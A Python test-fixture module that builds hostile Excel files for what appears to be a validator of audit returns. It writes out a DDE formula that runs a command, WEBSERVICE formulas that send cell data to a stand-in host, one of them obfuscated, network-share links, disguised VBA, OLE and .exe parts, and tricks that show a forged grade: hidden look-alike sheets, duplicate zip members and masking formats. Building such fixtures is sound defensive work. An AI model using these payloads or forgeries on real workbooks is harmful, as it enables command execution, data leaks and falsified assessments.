"""Build the hostile files a shared folder can hold: a valid return with one part changed, added or renamed.

Every builder starts from a genuine return (tests/returns.py) and changes its zip directly, byte for byte
elsewhere, so each file has exactly one defect.
"""

from __future__ import annotations

import re
import warnings
import zipfile
from pathlib import Path

from tests.returns import answers, copy_of_valid, valid_return, where

SHEET_PART = "xl/worksheets/sheet3.xml"  # Start, Summary, then the Case profile: xlsxwriter numbers them in order
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def parts(path: Path) -> dict[str, bytes]:
    """Every member of a zip, in order."""
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rewrite(path: Path, change: dict[str, bytes | None]) -> Path:
    """Replace, add or (with None) drop members, keeping the rest as they were."""
    members = parts(path)
    members.update(change)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            if data is not None:
                zf.writestr(name, data)
    return path


def returned(path: Path, seed: int = 1) -> Path:
    """A valid return to start from."""
    return copy_of_valid(path, seed=seed)


def with_sheet_xml(path: Path, edit: str) -> Path:
    """The Case profile sheet's XML edited by a function of its text."""
    return rewrite(path, {SHEET_PART: edit_text(parts(path)[SHEET_PART], edit)})


def edit_text(data: bytes, how: str) -> bytes:
    """Named edits of a sheet part's text."""
    text = data.decode("utf-8")
    if how == "utf7":
        text = re.sub(r'encoding="[^"]*"', 'encoding="UTF-7"', text, count=1)
    elif how == "bad-ref":
        text = re.sub(r'<c r="[A-Z]+\d+"', '<c r="1A"', text, count=1)
    elif how == "decoy":
        # A comment before the real data holding a decoy sheetData with another case reference in it.
        _, cell = where("profile_case_ref")
        decoy = f'<!-- <sheetData><row r="1"><c r="{cell}" t="inlineStr"><is><t>SYN-DECOY</t></is></c></row>' \
            "</sheetData> -->"
        text = text.replace("<sheetData>", decoy + "<sheetData>", 1)
    elif how == "webservice":
        text = _formula_into_a_cell(text, 'WEBSERVICE("http://example.invalid/?"&amp;A1)')
    elif how == "dde":
        text = _formula_into_a_cell(text, "cmd|' /C calc'!A0")
    elif how == "external-ref":
        text = _formula_into_a_cell(text, "[1]Sheet1!A1")
    elif how == "hyperlink-unc":
        text = _formula_into_a_cell(text, 'HYPERLINK("\\\\server\\share\\x.xlsx","open")')
    elif how == "hidden-webservice":
        # The call-out spelt with character references and split by a comment: what a parser sees counts.
        text = _formula_into_a_cell(text, "W&#69;BSERV<!-- x -->ICE(&quot;http://example.invalid&quot;)")
    elif how == "validation-ref":
        text = text.replace("<formula1>", "<formula1>[1]Lists!$A$1+", 1)
    else:
        raise ValueError(how)
    return text.encode("utf-8")


def _formula_into_a_cell(text: str, formula: str) -> str:
    """Give the first formula cell of the sheet another formula (same place, cached value kept)."""
    return re.sub(r"<f>[^<]*</f>", lambda _: f"<f>{formula}</f>", text, count=1)


def with_external_link(path: Path, target: str = "file:///\\\\server\\share\\book.xlsx") -> Path:
    """An external link part, as Excel writes one when a formula points at another workbook."""
    m = parts(path)
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
                                             b'ContentType="application/vnd.openxmlformats-officedocument.'
                                             b'spreadsheetml.externalLink+xml"/></Types>')
    rels = m["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rId99" Type="{REL}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="' +
            REL.encode() + b'"><externalBook r:id="rId1"/></externalLink>')
    link_rels = (f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" Type="{REL}/externalLinkPath" '
                 f'Target="{target}" TargetMode="External"/></Relationships>').encode()
    return rewrite(path, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels,
                          "xl/externalLinks/externalLink1.xml": link,
                          "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def with_hidden_vba(path: Path) -> Path:
    """A VBA project stored as a 'printer settings' part, wired in by a vbaProject relationship."""
    m = parts(path)
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                                             b'vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>'
                                             b"</Types>")
    rels = m["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="printerSettings/printerSettings1.bin"/></Relationships>')
    return rewrite(path, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels,
                          "xl/printerSettings/printerSettings1.bin": OLE_MAGIC + bytes(504)})


def with_ole_object(path: Path) -> Path:
    """An embedded OLE object (a 'package' a double-click would run)."""
    m = parts(path)
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                                             b'vnd.openxmlformats-officedocument.oleObject"/></Types>')
    return rewrite(path, {"[Content_Types].xml": types, "xl/embeddings/oleObject1.bin": OLE_MAGIC + bytes(504)})


def with_unknown_part(path: Path) -> Path:
    """A part no office application writes (a program), given its own content type."""
    m = parts(path)
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="exe" '
                                             b'ContentType="application/x-msdownload"/></Types>')
    return rewrite(path, {"[Content_Types].xml": types, "xl/tools/run.exe": b"MZ" + bytes(100)})


def with_remote_picture(path: Path) -> Path:
    """A drawing whose picture is fetched from a network path when the workbook is opened."""
    m = parts(path)
    rels = (f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" Type="{REL}/image" '
            'Target="\\\\server\\share\\logo.png" TargetMode="External"/></Relationships>').encode()
    types = m["[Content_Types].xml"].replace(b"</Types>", b'<Override PartName="/xl/drawings/drawing1.xml" '
                                             b'ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"'
                                             b"/></Types>")
    drawing = b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>'
    return rewrite(path, {"[Content_Types].xml": types, "xl/drawings/drawing1.xml": drawing,
                          "xl/drawings/_rels/drawing1.xml.rels": rels})


def with_picture(path: Path, megabytes: float) -> Path:
    """A large pasted picture (incompressible bytes, as a photo is)."""
    m = parts(path)
    types = m["[Content_Types].xml"]
    if b'Extension="png"' not in types:
        types = types.replace(b"</Types>", b'<Default Extension="png" ContentType="image/png"/></Types>')
    noise = bytes((i * 7919 + (i >> 8) * 104729) % 251 for i in range(int(megabytes * 1024 * 1024)))
    with zipfile.ZipFile(path) as zf:
        members = [(i, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info.filename, types if info.filename == "[Content_Types].xml" else data)
        zf.writestr("xl/media/image1.png", b"\x89PNG\r\n\x1a\n" + noise, compress_type=zipfile.ZIP_STORED)
    return path


# -- forged returns (issue 20) --------------------------------------------------------------------------------------
# Each starts from a genuine return graded Requires improvement overall and is altered so that a reader which reads
# otherwise than Excel and LibreOffice show would put Outstanding (or another value) into the master.

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
GRADED = "Requires improvement"
FORGED = "Outstanding"
GRADE_NAME = "overall_overall_grade"
GRADE_SHEET = "Overall judgement"
GRADE_CELL = "C9"


#: The seed of the synthetic answers that grade the audit Requires improvement overall.
GRADED_SEED = 2


def graded(path: Path, case_ref: str | None = None) -> Path:
    """A genuine return (the generator's own) graded Requires improvement overall: a copy of one made once, or made
    afresh for another case reference."""
    assert where(GRADE_NAME) == (GRADE_SHEET, GRADE_CELL)
    assert answers(seed=GRADED_SEED)[GRADE_NAME] == GRADED, "the synthetic answers changed: choose GRADED_SEED again"
    if case_ref is None:
        return copy_of_valid(path, seed=GRADED_SEED)
    return valid_return(path, seed=GRADED_SEED, changes={"profile_case_ref": case_ref})


def sheet_part(members: dict[str, bytes], sheet: str) -> str:
    """The part of a sheet, found as Excel finds it: its r:id in the workbook, through the workbook's relationships."""
    book = members["xl/workbook.xml"].decode()
    rid = re.search(rf'<sheet name="{re.escape(sheet)}" [^>]*r:id="([^"]+)"', book)
    assert rid is not None, sheet
    rels = members["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(rf'Id="{rid[1]}"[^>]*Target="([^"]+)"', rels)
    assert target is not None
    return "xl/" + target[1]


def _inline(text: str, value: str, cell: str = GRADE_CELL) -> str:
    """A sheet's text with one cell given an inline text instead of its value (its format kept)."""
    return re.sub(rf'<c r="{cell}"( s="\d+")?[^>]*>.*?</c>', lambda m: f'<c r="{cell}"{m[1] or ""} t="inlineStr">'
                  f"<is><t>{value}</t></is></c>", text, count=1)


def forged_sheet(members: dict[str, bytes], value: str = FORGED) -> bytes:
    """The grade's sheet with the grade given another value."""
    return _inline(members[sheet_part(members, GRADE_SHEET)].decode(), value).encode()


def _add_sheet(members: dict[str, bytes], sheet: str, part: str, data: bytes) -> dict[str, bytes | None]:
    """Members adding a worksheet part listed in the workbook under a name (the <sheet> entry is for the caller)."""
    types = members["[Content_Types].xml"].replace(b"</Types>", f'<Override PartName="/{part}" ContentType="'
                                                   'application/vnd.openxmlformats-officedocument.spreadsheetml.'
                                                   'worksheet+xml"/></Types>'.encode())
    rels = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rId99" Type="{REL}/worksheet" Target="{part[3:]}"/>'
        "</Relationships>".encode())
    return {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels, part: data}


def with_decoy_strings(path: Path) -> Path:
    """A second shared-strings part, with Outstanding where the real one says Requires improvement, listed first
    among the workbook's relationships (as custom XML): the real shared strings are still the sharedStrings one."""
    m = parts(path)
    decoy = m["xl/sharedStrings.xml"].replace(GRADED.encode(), FORGED.encode())
    rels = m["xl/_rels/workbook.xml.rels"].replace(
        b"<Relationship ", f'<Relationship Id="rId98" Type="{REL}/customXml" Target="decoy/sharedStrings.xml"/>'
        "<Relationship ".encode(), 1)
    return rewrite(path, {"xl/_rels/workbook.xml.rels": rels, "xl/decoy/sharedStrings.xml": decoy})


LOOK_ALIKE_SHEET = GRADE_SHEET.replace("e", "\u0435", 1)  # "Overall judgement" with a Cyrillic e


def with_hidden_twin(path: Path) -> Path:
    """A very hidden copy of the grade's sheet, graded Outstanding, takes its exact name; the visible sheet, still
    graded Requires improvement, is renamed with a look-alike character (a Cyrillic e)."""
    m = parts(path)
    book = m["xl/workbook.xml"].decode().replace(f'<sheet name="{GRADE_SHEET}"', f'<sheet name="{LOOK_ALIKE_SHEET}"')
    book = book.replace("</sheets>", f'<sheet name="{GRADE_SHEET}" sheetId="99" state="veryHidden" r:id="rId99"/>'
                        "</sheets>")
    return rewrite(path, {"xl/workbook.xml": book.encode(),
                          **_add_sheet(m, GRADE_SHEET, "xl/worksheets/sheet99.xml", forged_sheet(m))})


def with_sheet_state(path: Path, state: str) -> Path:
    """The grade's sheet, graded Outstanding, hidden (`state` "hidden" or "veryHidden") so nobody reading or printing
    the workbook sees its answers."""
    m = parts(path)
    book = m["xl/workbook.xml"].decode()
    entry = re.search(rf'<sheet name="{GRADE_SHEET}" [^>]*?/>', book)
    assert entry is not None
    book = book.replace(entry[0], entry[0].replace("<sheet ", f'<sheet state="{state}" ', 1))
    return rewrite(path, {"xl/workbook.xml": book.encode(), sheet_part(m, GRADE_SHEET): forged_sheet(m)})


def with_sheet_named_twice(path: Path) -> Path:
    """A second <sheet> entry of the grade sheet's name, after the first, for a copy graded Outstanding."""
    m = parts(path)
    book = m["xl/workbook.xml"].decode().replace("</sheets>", f'<sheet name="{GRADE_SHEET}" sheetId="99" '
                                                 'r:id="rId99"/></sheets>')
    return rewrite(path, {"xl/workbook.xml": book.encode(),
                          **_add_sheet(m, GRADE_SHEET, "xl/worksheets/sheet99.xml", forged_sheet(m))})


def with_member_twice(path: Path, first: str, data: bytes, *, second: str | None = None, after: bool = False
                      ) -> Path:
    """The zip with one more member of a name already in it (or of that name in other letters' case), written
    before the genuine one (or after it): Python's zipfile reads the last copy, other programs may read the first."""
    m = parts(path)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name: that is the point
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, genuine in m.items():
                if name == first and not after:
                    zf.writestr(second or name, data)
                zf.writestr(name, genuine)
                if name == first and after:
                    zf.writestr(second or name, data)
    return path


def with_part_twice(path: Path, *, case: bool = False) -> Path:
    """The grade's sheet given twice in the zip, the second copy (named in capitals with `case`) graded Outstanding:
    the copy a reader that keeps the last one takes."""
    m = parts(path)
    part = sheet_part(m, GRADE_SHEET)
    return with_member_twice(path, part, forged_sheet(m), second=part.upper() if case else None, after=True)


def with_active_copy(path: Path) -> Path:
    """The grade's sheet given twice, the first copy calling WEBSERVICE: a check of only the last copy misses it."""
    m = parts(path)
    part = sheet_part(m, GRADE_SHEET)
    text = m[part].decode().replace("<sheetData>", '<sheetData><row r="1"><c r="E1" t="str"><f>WEBSERVICE('
                                    '"http://example.invalid/")</f><v></v></c></row>', 1)
    return with_member_twice(path, part, text.encode())


def with_rels_copy(path: Path) -> Path:
    """The workbook's relationships given twice, the first copy linking to another workbook on a network share."""
    m = parts(path)
    rels = m["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rId97" Type="{REL}/externalLink" Target="file:///\\\\server\\share'
        '\\book.xlsx" TargetMode="External"/></Relationships>'.encode())
    return with_member_twice(path, "xl/_rels/workbook.xml.rels", rels)


def with_two_values(path: Path) -> Path:
    """The grade's cell given two values: Outstanding first (what a reader of the first takes), then Requires
    improvement (what LibreOffice and Gnumeric, reading the last, show)."""
    m = parts(path)
    part = sheet_part(m, GRADE_SHEET)
    text = re.sub(rf'<c r="{GRADE_CELL}"( s="\d+")?[^>]*>.*?</c>', lambda x: f'<c r="{GRADE_CELL}"{x[1] or ""} '
                  f't="str"><v>{FORGED}</v><v>{GRADED}</v></c>', m[part].decode(), count=1)
    return rewrite(path, {part: text.encode()})


def with_number(path: Path, name: str, text: str) -> Path:
    """A number input's stored value written as `text` (float() reads "1_6" as 16; the spreadsheets show 1)."""
    m = parts(path)
    sheet, cell = where(name)
    part = sheet_part(m, sheet)
    edited = re.sub(rf'(<c r="{cell}"[^>]*>)<v>[^<]*</v>', lambda x: f"{x[1]}<v>{text}</v>", m[part].decode(),
                    count=1)
    assert edited != m[part].decode()
    return rewrite(path, {part: edited.encode()})


def with_format(path: Path, code: str, value: str = FORGED) -> Path:
    """The grade's cell holding `value` under a number format of its own (`;;;"Requires improvement"` shows those
    words whatever text the cell holds), as Format Cells > Custom writes it."""
    m = parts(path)
    styles = m["xl/styles.xml"].decode()
    escaped = code.replace("&", "&amp;").replace('"', "&quot;")
    styles = re.sub(r'<numFmts count="(\d+)">', lambda x: f'<numFmts count="{int(x[1]) + 1}"><numFmt numFmtId="200" '
                    f'formatCode="{escaped}"/>', styles, count=1)
    xfs = re.search(r'<cellXfs count="(\d+)">(.*?)</cellXfs>', styles, flags=re.S)
    assert xfs is not None
    part = sheet_part(m, GRADE_SHEET)
    style = re.search(rf'<c r="{GRADE_CELL}" s="(\d+)"', m[part].decode())
    assert style is not None
    own = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs[2], flags=re.S)[int(style[1])]
    own = re.sub(r'numFmtId="\d+"', 'numFmtId="200"', own).replace("<xf ", '<xf applyNumberFormat="1" ', 1)
    count = int(xfs[1])
    styles = styles.replace(xfs[0], f'<cellXfs count="{count + 1}">{xfs[2]}{own}</cellXfs>')
    sheet = re.sub(rf'<c r="{GRADE_CELL}" s="\d+"', f'<c r="{GRADE_CELL}" s="{count}"', m[part].decode(), count=1)
    return rewrite(path, {"xl/styles.xml": styles.encode(), part: _inline(sheet, value).encode()})


def with_merge_over(path: Path) -> Path:
    """The grade's cell holding Outstanding, merged under its label's cell, which now says Requires improvement:
    the merged area shows (and prints) Requires improvement."""
    m = parts(path)
    part = sheet_part(m, GRADE_SHEET)
    label = f"B{GRADE_CELL[1:]}"
    text = _inline(_inline(m[part].decode(), FORGED), GRADED, cell=label)
    text = re.sub(r'<mergeCells count="(\d+)">', lambda x: f'<mergeCells count="{int(x[1]) + 1}"><mergeCell ref="'
                  f'{label}:{GRADE_CELL}"/>', text, count=1)
    return rewrite(path, {part: text.encode()})


HIDDEN_ROW = 40


def with_name_in_hidden_cell(path: Path) -> Path:
    """The grade's defined name moved to a cell of a hidden row below the form, holding Outstanding; the visible
    grade cell still says Requires improvement."""
    m = parts(path)
    part = sheet_part(m, GRADE_SHEET)
    cell = f"C{HIDDEN_ROW}"
    text = m[part].decode().replace("</sheetData>", f'<row r="{HIDDEN_ROW}" hidden="1"><c r="{cell}" '
                                    f't="inlineStr"><is><t>{FORGED}</t></is></c></row></sheetData>', 1)
    book = m["xl/workbook.xml"].decode().replace(f"'{GRADE_SHEET}'!$C$9<", f"'{GRADE_SHEET}'!$C${HIDDEN_ROW}<")
    return rewrite(path, {part: text.encode(), "xl/workbook.xml": book.encode()})


def with_conditional_format(path: Path, code: str = ';;;"Requires improvement"') -> Path:
    """The grade's cell holding Outstanding, given a number format by a conditional format that always applies (a
    style of the styles part's own, as Conditional Formatting > New Rule > Format writes it)."""
    m = parts(path)
    styles = m["xl/styles.xml"].decode()
    escaped = code.replace('"', "&quot;")
    dxf = f'<dxf><numFmt numFmtId="201" formatCode="{escaped}"/></dxf>'
    count = re.search(r'<dxfs count="(\d+)">', styles)
    assert count is not None
    styles = styles.replace("</dxfs>", dxf + "</dxfs>").replace(count[0], f'<dxfs count="{int(count[1]) + 1}">')
    part = sheet_part(m, GRADE_SHEET)
    rule = (f'<conditionalFormatting sqref="{GRADE_CELL}"><cfRule type="expression" dxfId="{count[1]}" priority="99">'
            "<formula>TRUE</formula></cfRule></conditionalFormatting>")
    sheet = _inline(m[part].decode(), FORGED).replace("<conditionalFormatting ", rule + "<conditionalFormatting ", 1)
    return rewrite(path, {"xl/styles.xml": styles.encode(), part: sheet.encode()})


def with_icons_only(path: Path, name: str = "profile_age") -> Path:
    """A number input under an icon set that shows its icon, not its value (showValue="0")."""
    m = parts(path)
    sheet, cell = where(name)
    part = sheet_part(m, sheet)
    rule = (f'<conditionalFormatting sqref="{cell}"><cfRule type="iconSet" priority="99"><iconSet showValue="0">'
            '<cfvo type="percent" val="0"/><cfvo type="percent" val="33"/><cfvo type="percent" val="67"/></iconSet>'
            "</cfRule></conditionalFormatting>")
    text = m[part].decode().replace("<conditionalFormatting ", rule + "<conditionalFormatting ", 1)
    return rewrite(path, {part: text.encode()})
